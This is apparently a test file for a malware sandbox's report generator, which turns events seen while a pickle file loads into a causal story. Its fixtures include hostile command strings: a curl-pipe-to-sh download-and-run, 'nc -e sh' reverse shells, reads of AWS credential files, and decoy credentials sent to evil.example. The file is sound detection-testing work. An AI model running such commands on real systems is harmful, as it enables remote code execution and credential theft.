"""What led to what: causes are told where the evidence has them, and no evidence breaks the story."""

from __future__ import annotations

from dataclasses import replace
from itertools import count
from typing import Any

from hypothesis import given
from hypothesis import strategies as st

from sandbox.facts import Conversation, Event, GlobalUse, Hint, Process, StaticFacts, Story
from sandbox.judge.story import MOST_ROWS, account
from sandbox.judge.teller import MOST_NODES
from sandbox.report.story import told
from sandbox.untrusted.talk import understand
from tests.judge.rows import CLEAN, DYNAMIC, RULES, STATIC, use
from tests.report.samples import CLEAN as REPORT

LOADER, SHELL, CURL, SECOND = 7, 12, 13, 14
PIPE = "sh -c 'curl http://203.0.113.9/x | sh'"
GET = b"GET /x HTTP/1.1\r\nHost: 203.0.113.9\r\n\r\n"
OK = b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n"
INET = {"family": "AF_INET", "address": "203.0.113.9", "port": "80"}
AWS = {"name": "AWS credentials", "path": "/home/user/.aws/credentials"}
CALLS = replace(STATIC, globals=(use("posix.system"), use("builtins.exec")))
SYSTEM = Hint("os.system", "sh", "posix.system")
STEAL = "Python at <string>:3 steal, through /usr/lib/python3.11/socket.py:3 connect (says the load)"
CODE = Hint("socket.connect", "", "builtins.exec", ("/usr/lib/python3.11/socket.py:3 connect", "<string>:3 steal"))


class Rows:
    """Events one after the other, a tenth of a second apart."""

    def __init__(self) -> None:
        self.events: list[Event] = []
        self._numbers = count(1)

    def add(self, kind: str, pid: int, answer: str = "continued", times: int = 1, **detail: str) -> Rows:
        number = next(self._numbers)
        call = detail.pop("call", kind.partition(".")[2])
        self.events.append(Event(number, kind, call, answer, pid, number / 10, times, detail))
        return self

    def run(self, pid: int, parent: int, argv: str, path: str) -> Rows:
        """A child that becomes a program."""
        self.add("process.start", pid, parent=str(parent), path="/usr/bin/python3.11", argv="python3.11")
        self.add("process.exec", pid, path=path, argv=argv)
        return self.add("process.image", pid, parent=str(parent), path=path, argv=argv)


def said(pid: int = CURL, sent: bytes = GET, answered: bytes = OK, **changes: Any) -> Conversation:
    whole = Conversation(1, pid, 0.9, "tcp", "203.0.113.9", 80, "", "http", sent, len(sent), answered, len(answered))
    return replace(whole, **changes)


def story(
    rows: Rows,
    *conversations: Conversation,
    hints: tuple[Hint, ...] = (SYSTEM,),
    hint_of: dict[int, int] | None = None,
    static: StaticFacts = CALLS,
) -> Story:
    named = dict.fromkeys((event.id for event in rows.events), 0) if hint_of is None else hint_of
    dynamic = replace(DYNAMIC, events=tuple(rows.events), conversations=conversations, hints=hints, hint_of=named)
    evidence = replace(CLEAN, static=static, dynamic=dynamic)
    return account(evidence, tuple(map(understand, conversations)), RULES)[0]


def tree(rows: Rows) -> tuple[Process, ...]:
    return account(replace(CLEAN, dynamic=replace(DYNAMIC, events=tuple(rows.events))), (), RULES)[1]


def lines(found: Story, verbose: int = 0) -> list[str]:
    return list(told(replace(REPORT, story=found), verbose))


def test_a_shell_that_fetches_a_script() -> None:
    rows = Rows().add("process.fork", LOADER, flags="vfork").run(SHELL, LOADER, PIPE, "/bin/sh")
    rows.run(CURL, SHELL, "curl http://203.0.113.9/x", "/usr/bin/curl").run(SECOND, SHELL, "sh", "/bin/sh")
    rows.add("net.socket", CURL, family="AF_INET").add("net.connect", CURL, "faked", **INET)
    for pid in (CURL, SECOND, SHELL):
        rows.add("process.exit", pid, value="0")
    assert lines(story(rows, said())) == [
        f"unpickling calls posix.system (data.pkl, offset 0x1f) (says the load) -> {PIPE}",
        "  -> curl connects 203.0.113.9:80 -> GET /x -> got 200, 0 bytes",
        "  -> sh ends with 0",
    ]


def test_under_evaluate_the_first_call_is_refused() -> None:
    rows = Rows().add("process.fork", LOADER, flags="vfork").add("process.exec", 8, "denied", argv="sh -c id")
    assert lines(story(rows)) == [
        "unpickling calls posix.system (data.pkl, offset 0x1f) (says the load) -> sh -c id (denied)"
    ]


def test_python_code_is_told_by_its_innermost_line_and_names_lead_to_addresses() -> None:
    rows = Rows().add("file.read", LOADER, path=AWS["path"]).add("decoy.read", 0, **AWS)
    rows.add("net.connect", LOADER, "faked", family="AF_INET", address="10.0.0.2", port="53")
    rows.add("net.dns", LOADER, "faked", name="evil.example", address="10.0.0.2")
    away = {"family": "AF_INET", "address": "198.18.0.1", "port": "443"}
    rows.add("net.connect", LOADER, "faked", name="evil.example", **away)
    rows.add("decoy.sent", LOADER, "faked", name=AWS["name"], address="198.18.0.1", port="443", value="base64")
    spoken = said(LOADER, b"POST /up HTTP/1.1\r\n\r\nx", b"", address="198.18.0.1", port=443, at=0.55)
    found = story(rows, spoken, hints=(CODE,))
    assert lines(found) == [
        f"unpickling calls builtins.exec (data.pkl, offset 0x1f) (says the load) -> {STEAL}",
        "  -> reads the AWS credentials (/home/user/.aws/credentials)",
        "  -> asks for the name evil.example -> connects evil.example:443 -> POST /up with 1 byte",
        "    -> got no answer",
        "    -> sends the decoy AWS credentials to 198.18.0.1:443 as base64",
    ]
    stolen = next(node for node in found.nodes if node.kind == "decoy.read")
    assert stolen.pid == LOADER
    assert [node.hint for node in found.nodes[:3]] == [True, True, False]


def test_what_was_looked_up_is_told_by_its_name() -> None:
    away = {"family": "AF_INET", "address": "198.18.0.1", "port": "443"}
    rows = Rows().add("net.send", LOADER, "faked", host="evil.example", **away)
    rows.add("decoy.sent", LOADER, "faked", name=AWS["name"], value="gzip", host="evil.example", **away)
    other = away | {"address": "198.18.0.2"}
    rows.add("net.connect", LOADER, name="x (denied)", **other).add("net.connect", LOADER, name="8.8.8.8", **other)
    assert lines(story(rows, hints=())) == [
        "the load sends to evil.example:443 -> sends the decoy AWS credentials to evil.example:443 as gzip",
        "the load connects 198.18.0.2:443 (x2)",
    ]
    spoken = said(99, port=81, name="evil.example")
    assert lines(story(Rows(), spoken))[0].startswith("evil.example:81: GET /x")


def test_what_a_program_calls_itself_is_not_what_runs() -> None:
    rows = Rows().run(SHELL, LOADER, "ls -c 'curl x'", "/bin/sh")
    assert "-> /bin/sh (calls itself ls) -c 'curl x'" in lines(story(rows))[0]
    rows = Rows().run(SHELL, LOADER, "ls", "/tmp/x (calls itself ls)")
    assert "-> '/tmp/x (calls itself ls)' (calls itself ls)" in lines(story(rows))[0]


def test_paths_answer_nothing() -> None:
    rows = Rows().add("file.write", LOADER, path="/tmp/a (denied)").add("file.write", LOADER, path="/tmp/" + "a" * 500)
    rows.add("file.rename", LOADER, "denied", path="/tmp/b -> c", target="/tmp/" + "d" * 500)
    found = [node.text for node in story(rows, hints=()).nodes]
    assert found[0] == "the load writes '/tmp/a (denied)'"
    assert found[2].startswith("the load renames '/tmp/b -> c' to /tmp/ddd")
    assert found[2].endswith(" (denied)")


def test_a_global_that_the_file_does_not_name_is_not_believed() -> None:
    rows = Rows().add("net.connect", LOADER, "denied", **INET)
    assert lines(story(rows, static=STATIC)) == ["the load connects 203.0.113.9:80 (denied)"]


def test_what_comes_after_the_load_is_not_the_unpicklers_call() -> None:
    rows = Rows().add("phase", 0, call="load").add("phase", 0, call="after").add("file.delete", LOADER, path="/home/a")
    found = story(rows)
    assert lines(found) == ["after the load -> deletes /home/a"]
    assert found.nodes[-1].phase == "after"
    fresh = story(rows, hints=(SYSTEM, CODE), hint_of={1: 0, 2: 0, 3: 1})
    assert lines(fresh) == [f"after the load -> {STEAL} -> deletes /home/a"]


def test_a_hint_before_the_loads_own_beginning_counts() -> None:
    rows = Rows().add("phase", 0, call="load").add("file.delete", LOADER, path="/home/a")
    assert lines(story(rows)) == [
        "unpickling calls posix.system (data.pkl, offset 0x1f) (says the load) -> deletes /home/a"
    ]


def test_the_same_again_is_counted() -> None:
    rows = Rows()
    for pid in range(20, 32):
        rows.run(pid, LOADER, "nc -e sh", "/bin/nc").add("process.exit", pid, value="1")
    (line,) = lines(story(rows))
    assert line.endswith("(data.pkl, offset 0x1f) (says the load) -> nc -e sh -> nc ends with 1 (x12)")


def test_a_name_that_is_tried_folder_by_folder_is_one_step() -> None:
    rows = Rows().add("process.start", SHELL, parent="7", path="/usr/bin/python3.11")
    for folder in ("/usr/local/bin", "/usr/bin", "/bin"):
        rows.add("process.exec", SHELL, path=f"{folder}/curl", argv="curl x")
    found = story(rows)
    assert [node.kind for node in found.nodes] == ["call", "process.start", "process.exec"]


def test_a_program_of_the_loader_itself_leads_on_only_when_it_was_seen_to_run() -> None:
    failed = Rows().add("process.exec", LOADER, path="/nothing", argv="nothing").add("net.connect", LOADER, **INET)
    assert [node.cause for node in story(failed).nodes] == [None, 1, 1]
    became = Rows().add("process.exec", LOADER, path="/bin/nc", argv="nc")
    became.add("process.image", LOADER, path="/bin/nc", argv="nc", parent="1").add("net.connect", LOADER, **INET)
    assert [node.cause for node in story(became).nodes] == [None, 1, 2, 3]


def test_conversations_find_the_connect_that_is_nearest() -> None:
    rows = Rows().run(CURL, LOADER, "curl", "/bin/curl").run(SECOND, LOADER, "wget", "/bin/wget")
    rows.add("net.connect", CURL, **INET).add("net.connect", SECOND, **INET)
    found = story(rows, said(SECOND), said(CURL), said(99, port=81))
    by_id = {node.id: node for node in found.nodes}
    talks = [node for node in found.nodes if node.kind == "talk"]
    assert [(talk.pid, talk.cause and by_id[talk.cause].pid) for talk in talks] == [(14, 14), (13, 13), (99, None)]
    assert talks[2].text == "203.0.113.9:81: GET /x"


def test_a_planted_tool_tells_what_it_was_given_instead_of_its_connect() -> None:
    rows = Rows().run(SHELL, LOADER, "crontab -", "/usr/bin/crontab")
    rows.add("net.connect", SHELL, "faked", family="AF_INET", address="192.0.2.1", port="9")
    sent = b'{"tool": "crontab", "argv": ["crontab", "-"], "environment": {}, "stdin": "YQ=="}'
    (line,) = lines(story(rows, said(SHELL, sent, b"", address="192.0.2.1", port=9)))
    assert line.endswith(
        "-> crontab - -> the planted crontab is given `crontab -`, with 1 byte of input (says the tool)"
    )
    lied = said(SHELL, b"{}", b"", address="192.0.2.1", port=9)
    assert "connects 192.0.2.1:9" in "".join(lines(story(rows, lied)))


def test_a_word_is_a_tools_only_when_its_process_became_that_tool() -> None:
    sent = b'{"tool": "crontab", "argv": ["crontab", "-"], "environment": {}, "stdin": ""}'
    word = said(SHELL, sent, b"", address="192.0.2.1", port=9)
    to_tools = {"family": "AF_INET", "address": "192.0.2.1", "port": "9"}
    for rows in (
        Rows().run(SHELL, LOADER, "sh -c id", "/bin/sh"),
        Rows().run(13, LOADER, "crontab -", "/usr/bin/crontab"),
        Rows().run(SHELL, LOADER, "crontab -", "/bin/sh"),
        Rows().add("process.exec", SHELL, "denied", path="/usr/bin/crontab", argv="crontab"),
    ):
        text = "\n".join(lines(story(rows.add("net.connect", SHELL, "faked", **to_tools), word)))
        told_as = "(forged word of a tool) the planted crontab is given `crontab -`"
        assert f"connects 192.0.2.1:9 -> {told_as}" in text


def test_a_call_is_chosen_by_what_was_done_and_not_by_what_was_looked_up_last() -> None:
    rows = Rows().add("process.exec", LOADER, "denied", argv="sh")

    def cause(hint: Hint, *globals_: GlobalUse) -> str:
        found = story(rows, hints=(hint,), static=replace(STATIC, globals=globals_)).nodes[0]
        return found.text if found.kind == "call" else ""

    at = "(data.pkl, offset 0x1f)"
    system, run, seen = use("posix.system"), use("builtins.exec"), use("torch.device", "reference")
    memo = Hint("os.system", "sh", "torch.device")
    assert cause(memo, system, seen) == f"unpickling calls posix.system {at}"
    assert cause(memo, system, use("torch.device")) == f"unpickling calls posix.system {at}"
    assert cause(memo, run, seen) == f"unpickling calls builtins.exec {at}"
    assert cause(memo, seen) == cause(memo, run, use("os.kill"), seen) == "unpickling, last looked up: torch.device"
    assert cause(memo, use("torch.device")) == f"unpickling calls torch.device {at}"
    assert cause(replace(memo, because="x"), use("posix.system", "reference")) == ""
    in_code = Hint("os.system", "", "builtins.exec", ("<string>:1 f",))
    assert cause(in_code, system, run) == f"unpickling calls builtins.exec {at}"


def test_what_loads_do_is_no_story() -> None:
    rows = Rows().add("phase", 0, call="load").add("file.read", LOADER, path="/usr/lib/x.so")
    rows.add("finder.gap", 0, value="there was no time left").add("time.sleep", LOADER, value="0.01")
    rows.add("memory.library", LOADER).add("process.exit", LOADER, value="0")
    assert story(rows) == Story()


def test_a_flood_hides_nothing_of_another_kind_and_is_counted() -> None:
    rows = Rows()
    for number in range(2000):
        rows.add("file.write", LOADER, path=f"/tmp/{number}")
    rows.add("net.connect", LOADER, **INET)
    found = story(rows)
    assert len(found.nodes) == MOST_ROWS + 1
    assert found.more == 2001 - MOST_ROWS
    assert found.nodes[-1].kind == "net.connect"
    assert len(lines(found)) < 10


def test_no_flood_takes_the_room_of_what_was_said_and_stolen() -> None:
    rows = Rows()
    for pid in range(20, 420):
        rows.run(pid, LOADER, f"nc {pid}", "/bin/nc")
    rows.add("net.connect", LOADER, **INET).add("decoy.sent", LOADER, name=AWS["name"], **INET)
    found = story(rows, said(LOADER))
    assert len(found.nodes) <= MOST_NODES
    assert [node.kind for node in found.nodes[-3:]] == ["talk", "answer", "decoy.sent"]


def test_processes_are_told_with_what_they_reached_and_touched() -> None:
    rows = Rows().run(SHELL, LOADER, PIPE, "/bin/sh").add("net.connect", SHELL, **INET)
    rows.add("file.write", SHELL, path="/tmp/x").add("file.read", SHELL, path="/usr/lib/libc.so.6")
    rows.add("file.read", LOADER, path=AWS["path"]).add("decoy.read", 0, **AWS)
    rows.add("process.exit", SHELL, value="-9").add("process.start", SHELL, parent="7", path="/again")
    rows.add("process.exit", SHELL, value="gone")
    found = tree(rows)
    assert [(row.pid, row.parent, row.path, row.exit) for row in found] == [
        (SHELL, LOADER, "/bin/sh", -9),
        (LOADER, 0, "", None),
        (SHELL, LOADER, "/again", None),
    ]
    assert (found[0].argv, found[0].sockets, found[0].files) == (PIPE, ("203.0.113.9:80",), ("/tmp/x",))
    assert found[1].files == (AWS["path"],)
    assert (found[0].end, found[2].end) == (0.9, 1.1)


KINDS = st.sampled_from(
    [
        *("process.fork", "process.exec", "process.start", "process.image", "process.exit", "phase", "clock"),
        *("net.connect", "net.dns", "net.send", "net.socket", "file.read", "file.write", "file.link", "decoy.read"),
        *("home.read", "decoy.sent", "decoy.written", "time.sleep", "escape.mount", "other.denied", "leftover", ""),
    ]
)
PIDS = st.integers(0, 4)
TEXTS = st.sampled_from(
    ["", "0", "1", "2", "3", "53", "80", "-9", "gone", "/a", "a b", "'", "192.0.2.1", "::ffff:1.2.3.4"]
)
KEYS = ["parent", "path", "argv", "value", "name", "address", "port", "family", "target", "subject", "call"]
EVENTS = st.builds(
    Event,
    id=st.integers(0, 9),
    kind=KINDS,
    call=st.sampled_from(["load", "after", "end", "exercise", "execve"]),
    answer=st.sampled_from(["denied", "faked", "continued", ""]),
    pid=PIDS,
    at=st.floats(0, 3),
    count=st.integers(1, 9),
    detail=st.dictionaries(st.sampled_from(KEYS), TEXTS | st.text(max_size=9)),
)
HINTS = st.builds(
    Hint, TEXTS, TEXTS, st.sampled_from(["", "posix.system", "x"]), st.lists(TEXTS, max_size=2).map(tuple)
)
CONVERSATIONS = st.builds(
    Conversation,
    id=st.integers(0, 3),
    pid=PIDS,
    at=st.floats(0, 3),
    transport=TEXTS,
    address=TEXTS,
    port=st.sampled_from([0, 9, 53, 80]),
    name=TEXTS,
    protocol=TEXTS,
    sent=st.sampled_from([b"", GET, b"\0"]) | st.binary(max_size=9),
    sent_total=st.integers(0, 99),
    answered=st.sampled_from([b"", OK]),
    answered_total=st.integers(0, 99),
)


@given(
    st.lists(EVENTS, max_size=25),
    st.lists(HINTS, max_size=3),
    st.dictionaries(st.integers(-1, 9), st.integers(-2, 5)),
    st.lists(CONVERSATIONS, max_size=5),
    st.integers(0, 2),
)
def test_whatever_the_evidence_says_there_is_a_story_without_circles(
    events: list[Event],
    hints: list[Hint],
    hint_of: dict[int, int],
    conversations: list[Conversation],
    verbose: int,
) -> None:
    rows = Rows()
    rows.events = events
    found = story(rows, *conversations, hints=tuple(hints), hint_of=hint_of)
    assert [node.id for node in found.nodes] == list(range(1, len(found.nodes) + 1))
    assert len(found.nodes) <= MOST_NODES
    assert all(node.cause is None or 0 < node.cause < node.id for node in found.nodes)
    assert all(row.pid for row in tree(rows))
    shown = lines(found, verbose)
    assert bool(shown) is bool(found.nodes)
    assert all("\n" not in line for line in shown)
